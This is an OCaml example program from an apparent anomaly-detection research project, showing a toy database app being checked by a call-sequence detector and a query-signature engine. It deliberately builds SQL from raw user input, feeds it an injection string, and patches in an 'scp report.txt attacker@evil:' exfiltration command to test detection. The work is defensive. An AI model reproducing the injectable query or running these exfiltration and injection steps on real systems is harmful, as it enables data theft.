(* Defense in depth: the Sec. VII mitigations working alongside the
   call-sequence detector.

   1. An attacker rewrites the query so it returns the SAME number of
      rows (equal selectivity): the call sequence is unchanged, so the
      HMM detector stays silent — exactly the limitation the paper
      acknowledges. The query axis (the query-signature engine) catches it.
   2. An attacker stages targeted data into a file and ships it with a
      shell command: the staging writes are normal-looking, but the file
      is labeled by the dynamic data-flow tracking, and the audit flags
      the command touching it.

   Run with:  dune exec examples/defense_in_depth.exe *)

let source =
  {|
fun main() {
  let conn = db_connect("pg");
  let id = scanf();
  let q = strcat(strcat("SELECT name FROM clients WHERE id = '", id), "'");
  let r = pq_exec(conn, q);
  let n = pq_ntuples(r);
  for (let i = 0; i < n; i = i + 1) {
    printf("%s\n", pq_getvalue(r, i, 0));
  }
  archive(r, n);
}

// legitimate feature: archive the displayed records to a report file
fun archive(r, n) {
  let f = fopen("report.txt", "a");
  for (let i = 0; i < n; i = i + 1) {
    fprintf(f, "%s\n", pq_getvalue(r, i, 0));
  }
  fclose(f);
}
|}

let app =
  {
    Adprom.Pipeline.name = "defense-in-depth";
    source;
    dbms = "PostgreSQL";
    setup_db =
      (fun e ->
        ignore (Sqldb.Engine.exec e "CREATE TABLE clients (id, name)");
        for i = 0 to 19 do
          ignore
            (Sqldb.Engine.exec e
               (Printf.sprintf "INSERT INTO clients VALUES (%d, 'user%d')" (100 + i) i))
        done);
    test_cases =
      List.init 12 (fun i ->
          Runtime.Testcase.make ~input:[ string_of_int (100 + i) ] (Printf.sprintf "n%d" i));
  }

let () =
  let dataset = Adprom.Pipeline.collect app in
  let analysis = dataset.Adprom.Pipeline.analysis in
  let profile = Adprom.Pipeline.train dataset in
  (* Learn the query-signature profile from the same training runs. *)
  let outcomes =
    List.map
      (fun tc -> snd (Adprom.Pipeline.run_case ~analysis app tc))
      app.Adprom.Pipeline.test_cases
  in
  let qsig = Adprom.Audit.learn outcomes in
  Printf.printf "Trained: HMM profile (threshold %.3f) + %d query signature(s)\n\n"
    profile.Adprom.Profile.threshold (Adprom_qsig.Profile.cardinality qsig);
  let engine = Adprom.Scoring.create profile in
  let qengine = Adprom_qsig.Engine.create qsig in

  let examine label input =
    let tc = Runtime.Testcase.make ~input:[ input ] label in
    let trace, outcome = Adprom.Pipeline.run_case ~analysis app tc in
    let hmm_flag =
      Adprom.Detector.flag_to_string
        (Adprom.Detector.worst (List.map snd (Adprom.Scoring.monitor engine trace)))
    in
    let qlog = outcome.Runtime.Interp.query_log in
    let anomalies =
      List.filter
        (fun (_, (v : Adprom_qsig.Engine.verdict)) -> v.Adprom_qsig.Engine.anomalous)
        (List.combine qlog (Adprom_qsig.Engine.check_log qengine qlog))
    in
    Printf.printf "%-24s HMM: %-10s query anomalies: %d\n" label hmm_flag
      (List.length anomalies);
    List.iter
      (fun ((sql, _), v) ->
        Printf.printf "    - %S: %s\n" sql (Adprom_qsig.Engine.verdict_to_string v))
      anomalies
  in
  examine "honest lookup" "105";
  (* Equal selectivity: one row comes back, the call sequence matches
     training exactly — only the query axis notices. *)
  examine "equal-selectivity theft" "' OR id = '119";

  (* Staged exfiltration: patch the binary so the archive loop also
     issues a shell upload of the report file. *)
  print_newline ();
  let upload = "scp report.txt attacker@evil:" in
  let poisoned =
    {
      app with
      Adprom.Pipeline.source =
        (let p = Applang.Parser.parse_program source in
         let p =
           Attack.Mutate.append_to_function p ~func:"main"
             [ Applang.Ast.Expr (Applang.Parser.parse_expr (Printf.sprintf "system(%S)" upload)) ]
         in
         Applang.Pretty.program_to_string p);
    }
  in
  let analysis' = Adprom.Pipeline.analyze_app poisoned in
  let tc = Runtime.Testcase.make ~input:[ "105" ] "staged" in
  let _, outcome = Adprom.Pipeline.run_case ~analysis:analysis' poisoned tc in
  Printf.printf "staged exfiltration      labeled files: [%s]\n"
    (String.concat "; " outcome.Runtime.Interp.tainted_files);
  List.iter
    (fun f -> Printf.printf "    - %s\n" (Adprom.Audit.finding_to_string f))
    (Adprom.Audit.audit outcome);

  (* 3. The full query-mutation family (tautology widening, cardinality
     blowup, out-of-band literals) against this app: the call sequence
     stays intact in every variant, so only the query axis can see it. *)
  print_newline ();
  let caught_of scenario =
    List.exists
      (fun (_, qlog) ->
        List.exists
          (fun (sql, rows) ->
            (Adprom_qsig.Engine.check ~rows qengine sql).Adprom_qsig.Engine.anomalous)
          qlog)
      (Attack.Qmutate.run_logs scenario app)
  in
  List.iter
    (fun kind ->
      let scenario = Attack.Qmutate.scenario kind in
      Printf.printf "query-mutation %-22s query axis: %s\n"
        (Attack.Qmutate.kind_to_string kind)
        (if caught_of scenario then "CAUGHT" else "missed"))
    Attack.Qmutate.all_kinds;

  (* 4. Attack 5 (the paper's banking tautology injection) through the
     query axis alone — the CI gate greps this line. *)
  let case = Dataset.Ca_attacks.attack5 () in
  let banking = case.Dataset.Ca_attacks.app in
  let bank_engine = Adprom_qsig.Engine.create (Adprom.Pipeline.train_qsig banking) in
  let attack5_caught =
    List.exists
      (fun (_, qlog) ->
        List.exists
          (fun (sql, rows) ->
            (Adprom_qsig.Engine.check ~rows bank_engine sql)
              .Adprom_qsig.Engine.anomalous)
          qlog)
      (Attack.Qmutate.run_logs case.Dataset.Ca_attacks.scenario banking)
  in
  Printf.printf "\nAttack 5 via query axis: %s\n"
    (if attack5_caught then "CAUGHT" else "MISSED")
